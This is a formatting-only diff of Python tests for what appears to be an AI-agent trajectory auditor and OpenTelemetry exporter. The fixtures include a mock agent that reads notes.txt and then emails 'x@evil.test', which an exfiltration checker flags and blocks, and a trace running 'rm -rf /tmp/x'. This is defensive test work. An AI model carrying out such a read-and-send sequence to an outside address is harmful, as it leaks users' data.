@@ -48,15 +48,24 @@ TOOLS = [("read_file", {"path": "notes.txt"}), ("send_email", {"to": "x@evil.tes
 def _episode(n: int) -> list[Event]:
     """An episode of two tool-calling steps and a reply; step 1 is judged unsafe."""
     eid, base = f"ep-{n}", 1000.0 + n
-    events: list[Event] = [EpisodeStarted(
-        episode_id=eid, task_id=f"task-{n}", env="mail", group_id=f"g-{n}", policy_name="p",
-        policy_version=1, produced_at=base, prompt=[ChatMessage(role="user", content="tidy up")],
-    )]  # fmt: skip
+    events: list[Event] = [
+        EpisodeStarted(
+            episode_id=eid,
+            task_id=f"task-{n}",
+            env="mail",
+            group_id=f"g-{n}",
+            policy_name="p",
+            policy_version=1,
+            produced_at=base,
+            prompt=[ChatMessage(role="user", content="tidy up")],
+        )
+    ]
     for i in range(3):
         if i < 2:
             name, args = TOOLS[i]
-            call = ToolCall(id=f"call-{n}-{i}", function=FunctionCall(
-                name=name, arguments=json.dumps(args)))  # fmt: skip
+            call = ToolCall(
+                id=f"call-{n}-{i}", function=FunctionCall(name=name, arguments=json.dumps(args))
+            )
             messages = [
                 ChatMessage(role="user", content=f"go on {i}"),
                 ChatMessage(role="assistant", content=f"thinking {i}", tool_calls=[call]),
@@ -66,27 +75,59 @@ def _episode(n: int) -> list[Event]:
         else:
             messages = [ChatMessage(role="assistant", content="done")]
             action, result = Action(text="done"), None
-        step = Step(episode_id=eid, step_index=i, env="mail", task_id=f"task-{n}",
-                    group_id=f"g-{n}", policy_version=1, action=action, tool_result=result,
-                    messages=messages, produced_at=base + i)  # fmt: skip
-        bad = i == 1
-        events += [step, Verdict(
-            event_id=derive_id("c", 1, step.event_id), episode_id=eid,
-            source_event_id=step.event_id,
-            step_index=i, env="mail", checker="heuristic.exfiltration",
-            risk_type="data_exfiltration" if bad else "none",
-            severity=Severity.HIGH if bad else Severity.NONE, score=0.9 if bad else 0.0,
-            decision=Decision.BLOCK if bad else Decision.ALLOW,
-            evidence=[Evidence(text="x@evil.test", field="action")] if bad else [],
+        step = Step(
+            episode_id=eid,
+            step_index=i,
+            env="mail",
+            task_id=f"task-{n}",
+            group_id=f"g-{n}",
+            policy_version=1,
+            action=action,
+            tool_result=result,
+            messages=messages,
             produced_at=base + i,
-        )]  # fmt: skip
-    end = EpisodeEnded(episode_id=eid, task_id=f"task-{n}", env="mail", group_id=f"g-{n}",
-                       outcome=Outcome.FAILURE, num_steps=3, produced_at=base + 3)  # fmt: skip
-    events += [end, Verdict(
-        event_id=derive_id("c", 1, end.event_id), episode_id=eid, source_event_id=end.event_id,
-        env="mail", checker="episode.summary", risk_type="data_exfiltration",
-        severity=Severity.HIGH, score=0.8, produced_at=base + 3,
-    )]  # fmt: skip
+        )
+        bad = i == 1
+        events += [
+            step,
+            Verdict(
+                event_id=derive_id("c", 1, step.event_id),
+                episode_id=eid,
+                source_event_id=step.event_id,
+                step_index=i,
+                env="mail",
+                checker="heuristic.exfiltration",
+                risk_type="data_exfiltration" if bad else "none",
+                severity=Severity.HIGH if bad else Severity.NONE,
+                score=0.9 if bad else 0.0,
+                decision=Decision.BLOCK if bad else Decision.ALLOW,
+                evidence=[Evidence(text="x@evil.test", field="action")] if bad else [],
+                produced_at=base + i,
+            ),
+        ]
+    end = EpisodeEnded(
+        episode_id=eid,
+        task_id=f"task-{n}",
+        env="mail",
+        group_id=f"g-{n}",
+        outcome=Outcome.FAILURE,
+        num_steps=3,
+        produced_at=base + 3,
+    )
+    events += [
+        end,
+        Verdict(
+            event_id=derive_id("c", 1, end.event_id),
+            episode_id=eid,
+            source_event_id=end.event_id,
+            env="mail",
+            checker="episode.summary",
+            risk_type="data_exfiltration",
+            severity=Severity.HIGH,
+            score=0.8,
+            produced_at=base + 3,
+        ),
+    ]
     return events
 
 
@@ -140,8 +181,10 @@ def test_export_writes_genai_spans_with_verdict_events(db, tmp_path: Path) -> No
     roots = [s for s in spans if "parentSpanId" not in s]
     episodes = {t.episode_id for t in trajectories}
     assert {_attrs(r)["gen_ai.conversation.id"] for r in roots} == episodes
-    assert all(any(_attrs(e)["gen_ai.evaluation.name"] == "episode.summary" for e in r["events"])
-               for r in roots)  # fmt: skip
+    assert all(
+        any(_attrs(e)["gen_ai.evaluation.name"] == "episode.summary" for e in r["events"])
+        for r in roots
+    )
     assert "OpenTelemetry GenAI spans" in (tmp_path / "traces.json.card.md").read_text()
 
 
@@ -180,8 +223,17 @@ def test_the_export_audits_with_the_batch_audit(db, tmp_path: Path) -> None:
     path, trajectories = db
     out = tmp_path / "traces.json"
     _export(path, out)
-    result = runner.invoke(app, ["audit", str(out), "--format", "otel", "--checkers",
-                                 "heuristic.exfiltration,rule.secrets"])  # fmt: skip
+    result = runner.invoke(
+        app,
+        [
+            "audit",
+            str(out),
+            "--format",
+            "otel",
+            "--checkers",
+            "heuristic.exfiltration,rule.secrets",
+        ],
+    )
     assert result.exit_code == 0, result.output
     lines = [json.loads(x) for x in result.output.splitlines() if x.startswith("{")]
     assert {x["id"] for x in lines} == {t.episode_id for t in trajectories}
@@ -192,32 +244,81 @@ def test_a_foreign_frameworks_trace_reads_as_steps(tmp_path: Path) -> None:
     """Full history on every chat span, tool spans as siblings, ints as JSON numbers."""
 
     def span(sid: str, name: str, start: int, attrs: dict, parent: str = "r") -> dict:
-        return {"traceId": "ab" * 16, "spanId": sid * 8, "parentSpanId": parent * 8,
-                "name": name, "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + 5),
-                "attributes": [{"key": k, "value": {"stringValue": v} if isinstance(v, str)
-                                else {"intValue": v}} for k, v in attrs.items()]}  # fmt: skip
+        return {
+            "traceId": "ab" * 16,
+            "spanId": sid * 8,
+            "parentSpanId": parent * 8,
+            "name": name,
+            "startTimeUnixNano": str(start),
+            "endTimeUnixNano": str(start + 5),
+            "attributes": [
+                {"key": k, "value": {"stringValue": v} if isinstance(v, str) else {"intValue": v}}
+                for k, v in attrs.items()
+            ],
+        }
 
     user = {"role": "user", "parts": [{"type": "text", "content": "delete temp files"}]}
-    call = {"role": "assistant", "parts": [{"type": "tool_call", "id": "c1", "name": "bash",
-                                            "arguments": {"cmd": "rm -rf /tmp/x"}}]}  # fmt: skip
-    reply = {"role": "tool", "parts": [{"type": "tool_call_response", "id": "c1",
-                                        "response": "removed"}]}  # fmt: skip
+    call = {
+        "role": "assistant",
+        "parts": [
+            {"type": "tool_call", "id": "c1", "name": "bash", "arguments": {"cmd": "rm -rf /tmp/x"}}
+        ],
+    }
+    reply = {
+        "role": "tool",
+        "parts": [{"type": "tool_call_response", "id": "c1", "response": "removed"}],
+    }
     spans = [
-        span("01", "chat gpt-4o", 10, {"gen_ai.operation.name": "chat",
-             "gen_ai.input.messages": json.dumps([user]),
-             "gen_ai.output.messages": json.dumps([call])}),
-        span("02", "execute_tool bash", 20, {"gen_ai.operation.name": "execute_tool",
-             "gen_ai.tool.name": "bash", "gen_ai.tool.call.id": "c1"}),
-        span("03", "chat gpt-4o", 30, {"gen_ai.operation.name": "chat",
-             "gen_ai.input.messages": json.dumps([user, call, reply]),
-             "gen_ai.output.messages": json.dumps([{"role": "assistant", "parts": [
-                 {"type": "text", "content": "Done."}]}]), "gen_ai.usage.output_tokens": 3}),
-    ]  # fmt: skip
-    root = span("r", "invoke_agent helper", 0, {"gen_ai.operation.name": "invoke_agent",
-                "gen_ai.agent.name": "helper", "gen_ai.conversation.id": "conv-7"})  # fmt: skip
+        span(
+            "01",
+            "chat gpt-4o",
+            10,
+            {
+                "gen_ai.operation.name": "chat",
+                "gen_ai.input.messages": json.dumps([user]),
+                "gen_ai.output.messages": json.dumps([call]),
+            },
+        ),
+        span(
+            "02",
+            "execute_tool bash",
+            20,
+            {
+                "gen_ai.operation.name": "execute_tool",
+                "gen_ai.tool.name": "bash",
+                "gen_ai.tool.call.id": "c1",
+            },
+        ),
+        span(
+            "03",
+            "chat gpt-4o",
+            30,
+            {
+                "gen_ai.operation.name": "chat",
+                "gen_ai.input.messages": json.dumps([user, call, reply]),
+                "gen_ai.output.messages": json.dumps(
+                    [{"role": "assistant", "parts": [{"type": "text", "content": "Done."}]}]
+                ),
+                "gen_ai.usage.output_tokens": 3,
+            },
+        ),
+    ]
+    root = span(
+        "r",
+        "invoke_agent helper",
+        0,
+        {
+            "gen_ai.operation.name": "invoke_agent",
+            "gen_ai.agent.name": "helper",
+            "gen_ai.conversation.id": "conv-7",
+        },
+    )
     del root["parentSpanId"]
-    request = {"resourceSpans": [{"resource": {"attributes": []},
-                                  "scopeSpans": [{"spans": [root, *spans]}]}]}  # fmt: skip
+    request = {
+        "resourceSpans": [
+            {"resource": {"attributes": []}, "scopeSpans": [{"spans": [root, *spans]}]}
+        ]
+    }
     file = tmp_path / "foreign.jsonl"
     file.write_text(json.dumps(request) + "\n" + "{not json\n")
     entries = read_entries(file, "otel")
